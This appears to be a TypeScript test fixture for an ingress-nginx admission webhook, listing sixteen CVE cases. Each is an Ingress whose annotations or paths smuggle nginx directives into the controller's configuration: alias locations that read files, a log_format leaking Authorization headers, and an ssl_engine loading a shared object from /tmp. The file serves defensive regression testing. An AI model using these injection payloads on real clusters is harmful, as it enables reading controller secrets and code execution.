// What ingress-nginx was attacked with through objects that tenants write. Each is an Ingress of its own host, `<cve>.test`; what it is to bring into nginx's configuration, or
// out of the controller's files, carries a mark.
import { ingress, type Json, settings } from "../../harness/manifests.ts"

/** In every text of an attack, and in no configuration. */
export const mark = "zqx"

export interface Attack {
  /** with what the identifier has behind `CVE-` */
  readonly cve: string
  /** Names are in the namespace `cve`. @param file what nobody may read */
  readonly objects: (file: string) => readonly Json[]
  /** what the webhook says of the Ingress; absent: it lets it in */
  readonly refusal?: RegExp
  /** what requests for its host are answered with when nobody asked the webhook: those for `/`, and for what was to be brought in */
  readonly statuses: readonly number[]
}

const auth = { "auth-url": "http://auth.cve.svc.cluster.local/" }

/** An Ingress for `/`. */
const annotated = (cve: string, annotations: Readonly<Record<string, string>>): Json =>
  ingress(`cve/${cve}`, `${cve}.test/ → web:80`, annotations)

/** An Ingress for `/`, and for another path. */
const withPath = (cve: string, path: string, annotations: Readonly<Record<string, string>> = {}): Json => {
  const object = annotated(cve, annotations)
  const [rule] = (object.spec as { rules: { http: { paths: Json[] } }[] }).rules
  rule?.http.paths.push({ ...rule.http.paths[0], path, pathType: "ImplementationSpecific" })
  return object
}

/** Directives that read a file, where a value ends too early. */
const alias = (file: string) => `; } location /${mark} { alias ${file}; } #`

const mayGuard = /may keep requests out: directive|Cannot use directive "/
export const unusable = /Cannot use/
const known = /known from attacks/

export const attacks: readonly Attack[] = [
  {
    cve: "2021-25742",
    objects: (file) => [
      annotated("2021-25742", {
        "server-snippet": `location /${mark} { alias ${file}; }`,
        "configuration-snippet": `content_by_lua_block { ${mark}("${file}") }`,
      }),
    ],
    refusal: mayGuard,
    statuses: [503],
  },
  {
    cve: "2021-25745",
    objects: (file) => [withPath("2021-25745", `/${mark} { alias ${file}; } #`)],
    refusal: known,
    statuses: [200],
  },
  {
    cve: "2021-25746",
    objects: (file) => [
      annotated("2021-25746", {
        "proxy-body-size": `1m${alias(file)}`,
        "proxy-read-timeout": `5${alias(file)}`,
        "server-alias": `x.test${alias(file)}`,
        "backend-protocol": `HTTP${alias(file)}`,
        "upstream-vhost": `x.test"${alias(file)}`,
      }),
    ],
    refusal: unusable,
    statuses: [200],
  },
  {
    cve: "2021-25748",
    objects: (file) => [withPath("2021-25748", `/x\n${mark} ${alias(file)}`)],
    refusal: known,
    statuses: [200],
  },
  {
    cve: "2022-4886",
    objects: () => [
      withPath("2022-4886", `/${mark}" { log_format ${mark} escape=none $http_authorization; } #`),
    ],
    statuses: [200],
  },
  {
    cve: "2023-5043",
    objects: (file) => [annotated("2023-5043", { "configuration-snippet": `${mark} on; alias ${file};` })],
    refusal: mayGuard,
    statuses: [503],
  },
  {
    cve: "2023-5044",
    objects: (file) => [annotated("2023-5044", { "permanent-redirect": `https://x.test/";${alias(file)}` })],
    refusal: unusable,
    statuses: [200],
  },
  {
    cve: "2024-7646",
    objects: (file) => [
      annotated("2024-7646", {
        "app-root": `/x\r\n${mark}${alias(file)}`,
        "x-forwarded-prefix": `/x\n${mark}${alias(file)}`,
      }),
    ],
    refusal: unusable,
    statuses: [200],
  },
  {
    cve: "2025-24514",
    objects: (file) => [
      annotated("2025-24514", { "auth-url": `http://auth.test/#;}}}\n${mark}${alias(file)}` }),
    ],
    refusal: unusable,
    statuses: [503],
  },
  {
    cve: "2025-1097",
    objects: () => [
      annotated("2025-1097", {
        "auth-tls-secret": "cve/ca",
        "auth-tls-match-cn": `CN=x #(\n){}\n }}\nssl_engine /tmp/${mark}.so;\n#`,
      }),
    ],
    refusal: unusable,
    statuses: [403],
  },
  {
    cve: "2025-1098",
    objects: (file) => [
      annotated("2025-1098", {
        "mirror-target": `https://x.test/#;${mark}${alias(file)}`,
        "mirror-host": `x.test"${mark}${alias(file)}`,
      }),
    ],
    refusal: unusable,
    statuses: [200],
  },
  {
    cve: "2025-15566",
    objects: (file) => [
      annotated("2025-15566", { ...auth, "auth-proxy-set-headers": "cve/headers" }),
      settings("cve/headers", { "X-A": `x";${mark}${alias(file)}` }),
    ],
    // The value is one: it goes to the service as it is. There is none here.
    statuses: [500],
  },
  {
    cve: "2026-1580",
    objects: (file) => [annotated("2026-1580", { ...auth, "auth-method": `GET;${mark}${alias(file)}` })],
    refusal: unusable,
    statuses: [503],
  },
  {
    cve: "2026-24512",
    objects: (file) => [withPath("2026-24512", `/a\\" ${mark} { return 200 "${file}"`)],
    statuses: [200],
  },
  {
    cve: "2026-3288",
    objects: (file) => [
      withPath("2026-3288", `/x" break; ${alias(file)}`, { "rewrite-target": "/$1", "use-regex": "true" }),
    ],
    refusal: known,
    statuses: [200],
  },
  {
    cve: "2026-4342",
    objects: (file) => [
      withPath("2026-4342", `/##\n${mark} ${alias(file)}`, { ...auth, "auth-keepalive": "5" }),
    ],
    refusal: known,
    statuses: [500],
  },
]
